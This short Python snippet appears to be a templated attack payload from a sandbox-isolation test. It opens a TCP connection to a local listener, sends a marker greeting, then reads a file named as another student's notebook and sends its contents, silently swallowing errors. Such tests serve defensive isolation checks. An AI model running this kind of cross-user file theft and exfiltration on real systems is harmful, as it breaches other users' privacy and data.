# Read another student's notebook and send it to a TCP listener on 127.0.0.1 (a greeting first, so the
# network is measured even when the read is held).
def _attack():
    import socket

    with socket.create_connection(("127.0.0.1", int("{TCP_PORT}")), timeout=3) as connection:
        connection.sendall(b"HELLO {MARKER}\n")
        try:
            with open("{VICTIM}", "rb") as handle:
                connection.sendall(handle.read())
        except OSError:
            pass


try:
    _attack()
except Exception:
    pass
